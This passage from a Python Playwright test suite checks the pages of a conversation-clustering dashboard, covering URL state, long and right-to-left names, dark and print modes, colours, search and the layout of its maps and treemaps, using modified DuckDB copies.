    expect(tab.locator(".kura-card").filter(has_text="before → after").locator("b")).to_have_text(
        f"{counted[0]:,} → {counted[1]:,}"
    )
    with tab.expect_download() as saved:
        tab.get_by_test_id("stDownloadButton").get_by_role("button").click()
    rows = list(csv.DictReader(Path(saved.value.path()).read_text("utf-8-sig").splitlines()))
    assert {row["path"] for row in rows[:2]} == {"Delivery", "Feedback"}, "one grows, one is new"
    assert float(rows[0]["score"]) > 2.58


def test_what_is_usually_compared_is_one_choice_which_the_address_keeps(
    opened: Callable[..., Page], published: Path
) -> None:
    tab = opened(published, "changes", "What has changed")

    def usual(name: str) -> Locator:
        return tab.get_by_role("radio", name=name)

    expect(usual("Last 6 weeks")).to_be_checked()
    usual("Last week").click()
    expect(tab).to_have_url(re.compile("before=2026-06-15&before_to=2026-06-21&after=2026-06-22&after_to=2026-06-28"))
    expect(tab.get_by_text("before → after, 7 days each")).to_be_visible()
    tab.reload()
    settled(tab, "What has changed")
    expect(usual("Last week")).to_be_checked()
    usual("Last 6 weeks").click()
    expect(tab).to_have_url(re.compile("changes$"))
    gone_back(tab)
    expect(usual("Last week")).to_be_checked()


@pytest.mark.parametrize("width", [1280, 400])
def test_long_names_can_be_read_without_a_pointer(
    opened: Callable[..., Page], published: Path, tmp_path: Path, width: int
) -> None:
    name = "Parcels that were said to be delivered and that nobody in the house has seen"
    copy = changed(
        published, tmp_path / "long.duckdb",
        f"update dim_kura__clusters set name = '{name} ' || cluster_id, path = '{name} ' || cluster_id where cluster_id like 't%'",
    )  # fmt: skip
    for page, title, names in (
        ("", "What people talk about", ".tree .name"),
        ("topics", "Topics", ".tree .row.top .name"),
        ("map", "Map", ".map .legend span"),
        ("lenses", "Lenses", ".grid tbody th span"),
    ):
        tab = opened(copy, page, title, width=width)
        shown = tab.locator(names).filter(has_text=name)
        expect(shown.nth(8)).to_be_visible()
        cut = shown.evaluate_all(
            "all => all.filter(one => one.scrollHeight > one.clientHeight + 1 || one.scrollWidth > one.clientWidth + 1)"
            ".map(one => one.textContent)"
        )
        assert cut == [], page
    number = tab.locator(".grid td button").first.bounding_box()
    assert number
    assert number["x"] + number["width"] < width, "beside a name there is room for a number"


def test_what_is_inside_a_cluster_is_counted_under_the_filters_and_of_much_the_largest_are_listed(
    opened: Callable[..., Page], published: Path, tmp_path: Path, ask: Callable[..., Any]
) -> None:
    tab = opened(published, "cluster?id=t4&facet.segment=team", "Delivery")
    inside = ".st-key-inside_t4 .row:not(.head) .number"
    counts = (
        "select list(n order by n desc) from (select count(*) as n from fct_kura__conversation_attributes"
        " where cluster_id like 't4%' and segment = 'team' group by cluster_id)"
    )
    expect(tab.locator(inside)).to_have_text([re.compile(rf"^{count} ") for count in ask(counts)])
    expect(tab.get_by_role("button", name="Show all")).to_have_count(0)
    copy = changed(
        published, tmp_path / "wide.duckdb",
        "update dim_kura__clusters set parent_cluster_id = 't4' where parent_cluster_id in ('t1', 't2')",
    )  # fmt: skip
    tab = opened(copy, "cluster?id=t4", "Delivery")
    expect(tab.locator(inside)).to_have_count(12)
    tab.get_by_role("button", name="Show all 24 of them").click()
    settled(tab, "Topics")
    expect(tab.locator(".treemap button")).to_have_count(24)


def test_a_dark_page_is_dark_and_what_is_printed_is_complete(opened: Callable[..., Page], published: Path) -> None:
    tab = opened(published, "cluster?id=t4", "Delivery", color_scheme="dark")
    assert tab.evaluate("getComputedStyle(document.querySelector('.stApp')).backgroundColor") == "rgb(20, 27, 31)"
    quote = tab.locator(".quotes button").first
    light = quote.evaluate("element => getComputedStyle(element).color.match(/\\d+/g).map(Number)")
    assert min(light) > 180
    tab.emulate_media(media="print")
    expect(tab.get_by_test_id("stSidebar")).not_to_be_visible()
    expect(tab.locator(".kura-printed", has_text="Calls")).to_be_visible()
    expect(tab.get_by_test_id("stDataFrame").first).not_to_be_visible()
    drawn, width, height = tab.locator("[data-testid=stVegaLiteChart] svg").first.evaluate(
        "svg => [svg.getAttribute('viewBox'), svg.getBoundingClientRect().width, svg.getBoundingClientRect().height]"
    )
    assert [float(side) for side in drawn.split()[2:]] == pytest.approx([width, height], abs=1), "nothing is left blank"
    height = tab.evaluate("document.documentElement.scrollHeight")
    last = tab.locator(".tree").last.bounding_box()
    assert last is not None
    assert last["y"] + last["height"] <= height, "nothing is cut off at the end of the screen"


def test_where_the_system_chooses_the_colours_topics_keep_theirs(opened: Callable[..., Page], published: Path) -> None:
    for page, title, places in (
        ("map", "Map", ".legend i"),
        ("topics", "Topics", ".treemap i"),
        ("topics", "Topics", ".bar"),
    ):
        tab = opened(published, page, title, forced_colors="active")
        expect(tab.locator(places).nth(9)).to_be_visible()
        shown = tab.locator(places).evaluate_all("all => all.map(one => getComputedStyle(one).backgroundColor)")
        assert len(set(shown)) > 10, (page, places)
    pressed = tab.get_by_role("radio", name="Size", exact=True).first
    assert pressed.evaluate("one => getComputedStyle(one).outlineStyle") == "solid"


def test_what_is_written_from_right_to_left_ends_on_the_left(
    opened: Callable[..., Page], published: Path, tmp_path: Path
) -> None:
    copy = changed(
        published, tmp_path / "arabic.duckdb",
        f"update dim_kura__clusters set name = '{QUESTION}', description = '{QUESTION}', path = '{QUESTION}' where cluster_id = 't1'",
        f"update fct_kura__cluster_examples set summary = '{QUESTION}' where cluster_id = 't1'",
    )  # fmt: skip
    tab = opened(copy, "cluster?id=t1", QUESTION)
    for place in ("h1", ".kura-lead", ".quotes button"):
        assert ends_on_the_left(tab.locator(place, has_text="PayPal")), place
    go(tab, "Topics")
    for place in (".treemap b", ".tree .name"):
        assert ends_on_the_left(tab.locator(place, has_text="PayPal")), place
    go(tab, "Map")
    assert ends_on_the_left(tab.locator(".map .legend span", has_text="PayPal"))


INSIDE = "fct_kura__conversations inner join fct_kura__conversation_attributes as a using (conversation_id)"


def test_back_from_a_page_that_a_button_opened_shows_what_was_left(
    opened: Callable[..., Page], published: Path, ask: Callable[..., Any]
) -> None:
    tab = opened(published, "topics?facet.segment=team", "Topics")
    tab.locator(".tree .row.top .name", has_text="Delivery").click()
    settled(tab, "Delivery")
    expect(tab).to_have_url(re.compile("cluster.*id=t4"))
    tab.get_by_role("button", name="Show its conversations").click()
    settled(tab, "Conversations")
    expect(tab).to_have_url(re.compile("conversations.*in=t4"))
    tab.go_back()
    settled(tab, "Delivery")
    calm(tab)
    expect(tab.locator("h1")).to_have_text("Delivery")
    expect(tab.get_by_text("this link asks")).to_have_count(0)
    tab.go_forward()
    settled(tab, "Conversations")
    counts(tab, ask(f"select count(*) from {INSIDE} where segment = 'team' and a.cluster_id like 't4%'"))
    for _ in range(2):
        gone_back(tab)
        settled(tab, "Delivery")
    expect(tab).to_have_url(re.compile("cluster.*id=t4"))
    tab.go_back()
    settled(tab, "Topics")
    team = ask("select count(*) from fct_kura__conversation_attributes where segment = 'team'")
    counts(tab, team)
    tab.go_back()
    expect(tab).to_have_url(re.compile("topics.*facet.segment=team"))
    counts(tab, team)
    tab.locator(".treemap button").first.click()
    expect(tab).to_have_title(re.compile("^Topics: "))
    expect(tab).to_have_url(re.compile("at=t"))


TITLES = {
    "Overview": "What people talk about", "Map": "Map", "Topics": "Topics", "Changes": "What has changed", "Lenses": "Lenses",
    "Comparisons": "What differs", "Conversations": "Conversations",
}  # fmt: skip


@pytest.mark.parametrize(
    ("scheme", "turned", "ink"), [("light", "dark", look.DARK.quiet), ("dark", "light", look.LIGHT.quiet)]
)
def test_every_text_can_be_told_from_what_is_behind_it_also_after_the_screen_has_turned(
    opened: Callable[..., Page], published: Path, scheme: str, turned: Any, ink: str
) -> None:
    tab = opened(published, "cluster?id=t4", "Delivery", color_scheme=scheme)
    tab.get_by_text("Edit clusters").click()
    expect(tab.get_by_text("Edits that you add")).to_be_visible()
    assert faint(tab) == []
    tab.emulate_media(color_scheme=turned)
    expect(tab.get_by_test_id("stVegaLiteChart").first.locator("text").first).to_have_attribute("fill", ink)
    assert faint(tab) == []
    for name, title in TITLES.items():
        go(tab, name, title)
        assert faint(tab) == [], name


def test_two_of_the_same_name_are_two_wherever_one_is_chosen_or_opened(
    opened: Callable[..., Page], published: Path, tmp_path: Path, ask: Callable[..., Any]
) -> None:
    copy = changed(
        published, tmp_path / "same.duckdb",
        "update dim_kura__clusters set name = 'Ours' where cluster_id in ('t4', 't5', 't4m1', 't4m2')",
        "update dim_kura__clusters set path = 'Ours' where cluster_id in ('t4', 't5')",
        "update dim_kura__clusters set path = 'Ours > ' || name where parent_cluster_id in ('t4', 't5')",
        # below one topic, as edits and hidden clusters leave them
        "update dim_kura__clusters set parent_cluster_id = 't1', root_cluster_id = 't1', path = 'Payments > ' || path"
        " where cluster_id in ('t4', 't5')",
        "update dim_kura__clusters set root_cluster_id = 't1', path = 'Payments > ' || path"
        " where parent_cluster_id in ('t4', 't5')",
    )  # fmt: skip
    tab = opened(copy, "cluster?id=t1", "Payments")
    choose(tab, "Cluster", "Payments > Ours > Ours (2)")
    expect(tab).to_have_url(re.compile("id=t4m2"))
    count = ask("select conversation_count from dim_kura__clusters where cluster_id = 't4m2'")
    expect(tab.locator(".kura-card").filter(has_text="Conversations").locator("b")).to_have_text(f"{count:,}")
    tab = opened(copy, "conversations", "Conversations")
    choose_one(tab, "Cluster", "Payments > Ours > Ours (2)")
    expect(tab).to_have_url(re.compile("in=t4m2"))
    expect(tab.get_by_text(f"{count:,} conversation")).to_be_visible()
    tab = opened(copy, "topics?at=t5", "Topics")
    inside = ask("select count(*) from dim_kura__clusters where parent_cluster_id = 't5' and conversation_count > 0")
    expect(tab.locator(".tree .row:not(.head)")).to_have_count(inside + 1)
    # a new copy comes while somebody looks at the old one
    tile = tab.locator(".treemap button", has_text="Returns: how to")
    expect(tile).to_be_visible()
    calm(tab)
    changed(
        copy, tmp_path / "next.duckdb", "update dim_kura__clusters set cluster_id = 'new' where name = 'Returns: how to'"
    ).replace(copy)  # fmt: skip
    tile.click()
    expect(tab.get_by_text("Topic: what this link asks for")).to_be_visible()
    expect(tab.get_by_test_id("stException")).to_have_count(0)


CUT = """tiles => tiles.filter(tile => {
  const inside = tile.getBoundingClientRect();
  return [...tile.querySelectorAll("b, span")].map(part => part.getBoundingClientRect())
    .some(part => part.height && (part.bottom > inside.bottom || part.right > inside.right || part.height > 60));
}).map(tile => tile.innerText)"""


def test_of_many_topics_and_periods_nothing_is_cut_in_the_middle(
    opened: Callable[..., Page], published: Path, tmp_path: Path
) -> None:
    copy = changed(
        published, tmp_path / "flat.duckdb",
        "delete from dim_kura__clusters where lens = 'conversation' and level = 0 and not is_leaf",
        "update dim_kura__clusters set parent_cluster_id = null, root_cluster_id = cluster_id, level = 0 where level = 1",
        "insert into fct_kura__cluster_trends by name"
        " select * exclude (period_start, back), period_start - back as period_start"
        " from fct_kura__cluster_trends, (select 182 * unnest(range(1, 6))::int as back) where is_complete",
    )  # fmt: skip
    tab = opened(copy, "topics", "Topics")
    tiles = tab.locator(".treemap button")
    for width, least in ((1280, 40), (400, 5)):
        tab.set_viewport_size({"width": width, "height": 900})
        expect(tiles.locator("span:visible").nth(least)).to_have_text(re.compile(r"^\d+( · [\d.]+ %)?$"))
        assert tiles.evaluate_all(CUT) == []
    expect(tab.get_by_text("A name opens its cluster.", exact=True)).to_be_visible()
    tab.set_viewport_size({"width": 1280, "height": 900})
    tab.get_by_test_id("stSidebar").get_by_text("Overview", exact=True).click()
    expect(
        tab.get_by_text(re.compile(r"^The last 104 of 1\d\d weeks\. The filter Time shows others\.$"))
    ).to_be_visible()


def test_a_name_on_the_map_hides_no_conversation_of_a_few(opened: Callable[..., Page], published: Path) -> None:
    frame = opened(published, "map?from=2026-01-05&to=2026-01-05", "Map").locator(".map .frame")
    expect(frame).to_have_attribute("data-anchors", re.compile("t"))
    places = json.loads(frame.get_attribute("data-anchors") or "")
    for (name, x, y), (left, top, right, bottom) in zip(
        places, json.loads(frame.get_attribute("data-boxes") or ""), strict=True
    ):
        assert not (left <= x <= right and top <= y <= bottom), name


def test_a_topic_is_found_by_words_of_its_name_or_description_with_what_is_above_and_below(
    opened: Callable[..., Page], published: Path, ask: Callable[..., Any]
) -> None:
    tab = opened(published, "topics", "Topics")
    field = tab.get_by_role("textbox", name="Find a topic")
    names = tab.locator(".tree .row:not(.head):visible .name")
    field.fill("LATE")
    field.press("Enter")
    expect(tab).to_have_url(re.compile("words=LATE"))
    expect(tab.locator(".treemap")).to_have_count(0)
    late = ask(f"select count(*) from {TREE} where name like '%: late' and conversation_count > 0")
    expect(tab.get_by_text(f"{late} clusters with these words")).to_be_visible()
    expect(names.filter(has_text="late")).to_have_count(late)
    expect(names).to_have_count(2 * late)  # each is in a topic of its own, which is open
    field.fill("delivery late")  # the one word is in the topic's name, too
    field.press("Enter")
    expect(names).to_have_text(["Delivery", "Delivery: late"])
    field.fill("about delivery.")
    field.press("Enter")
    expect(names).to_have_text(["Delivery"])  # what is below it can be opened
    tab.locator(".tree .toggle:visible").click()
    expect(names).to_have_count(1 + ask("select count(*) from dim_kura__clusters where parent_cluster_id = 't4'"))
    field.fill("nobody says this")
    field.press("Enter")
    expect(tab.get_by_text("No name and no description has these words.")).to_be_visible()
    field.fill("")
    field.press("Enter")
    expect(tab.locator(".treemap button").first).to_be_visible()


def test_bars_inside_a_topic_are_beside_the_largest_of_its_parts(
    opened: Callable[..., Page], published: Path, ask: Callable[..., Any]
) -> None:
    tab = opened(published, "topics?at=t4", "Topics")
    rows = tab.locator(".tree .row:not(.head)")
    expect(rows.first.locator(".name")).to_have_text("Delivery")
    expect(rows.first.locator(".bar")).to_have_count(0)  # its own would make stubs of them
    sizes = [ask(f"select max(conversation_count) from {TREE} where parent_cluster_id = 't4'"),
             ask(f"select min(conversation_count) from {TREE} where parent_cluster_id = 't4'")]  # fmt: skip
    widths = [
        rows.nth(place).locator(".bar").evaluate("bar => bar.offsetWidth / bar.parentElement.offsetWidth")
        for place in (1, -1)
    ]
    assert widths[0] == 1
    assert abs(widths[1] - sizes[1] / sizes[0]) < 0.02


def test_a_long_name_is_on_the_map_from_beginning_to_end_where_there_is_room(
    opened: Callable[..., Page], published: Path, tmp_path: Path
) -> None:
    long = "Parcels that were said to be delivered and that nobody in the house has ever seen"
    thai = "พัสดุของฉันอยู่ที่ไหนและเมื่อไหร่จะมาถึงบ้านของฉันเพราะรอมานานแล้ว"  # without a blank
    frame = opened(
        changed(
            published, tmp_path / "long.duckdb", f"update dim_kura__clusters set name = '{long}' where cluster_id = 't5'",
            f"update dim_kura__clusters set name = '{thai}' where cluster_id = 't4'",
        ),
        "map", "Map",
    ).locator(".map .frame")  # fmt: skip
    expect(frame).to_have_attribute("data-names", re.compile("Parcels"))
    names = json.loads(frame.get_attribute("data-names") or "")
    assert long in [" ".join(lines) for lines in names]
    [lines] = [lines for lines in names if "".join(lines) == thai]
    assert len(lines) > 1


def test_a_link_to_a_cluster_of_another_lens_leads_on_to_it(
    opened: Callable[..., Page], published: Path, ask: Callable[..., Any]
) -> None:
    count = ask("select conversation_count from dim_kura__clusters where cluster_id = 'i1'")
    for address in ("cluster?id=i1", "topics?at=i1", "map?focus=i1", "lenses?at=i1", "conversations?in=i1"):
        tab = opened(published, address, "Broken")
        expect(tab.get_by_text("In the lens Issue")).to_be_visible()
        expect(tab.get_by_text("this link asks")).to_have_count(0)
        figure = tab.locator(".kura-card").filter(has_text="Conversations").locator("b")
        expect(figure).to_have_text(f"{count:,}")
    choose(tab, "Segment", "team")
    inside = ask(f"select count(*) from {INSIDE} where segment = 'team' and issue_side = 'product'")
    expect(figure).to_have_text(f"{inside:,}")
    tab.get_by_role("button", name="Show its conversations").click()
    settled(tab, "Conversations")
    expect(tab.get_by_text(f"{inside:,} conversation")).to_be_visible()
    tab.go_back()
    settled(tab, "Broken")
    tab.get_by_role("button", name="Beside the main lens").click()
    settled(tab, "Lenses")


def test_beside_bars_all_names_stand_however_long_they_are(
    opened: Callable[..., Page], published: Path, tmp_path: Path, ask: Callable[..., Any]
) -> None:
    long = "Parcels that were said to be delivered and that nobody in the house has ever seen "
    copy = changed(
        published, tmp_path / "long.duckdb", f"update dim_kura__clusters set name = '{long}' || cluster_id where level = 0"
    )  # fmt: skip
    tab = opened(copy, "changes", "What has changed")
    topics = ask(f"select count(*) from {TREE} where level = 0 and not is_outliers and not is_unprocessed")
    labels = tab.get_by_test_id("stVegaLiteChart").locator(".role-axis-label").last.locator("text")
    expect(labels).to_have_count(topics)
    boxes = labels.evaluate_all(
        "texts => texts.map(text => [text.getBoundingClientRect(), getComputedStyle(text).opacity]).map(([box, opacity]) => [box.top, box.bottom, +opacity])"
    )
    assert all(opacity for *_, opacity in boxes)
    boxes.sort()
    assert all(above[1] <= below[0] for above, below in pairwise(boxes))
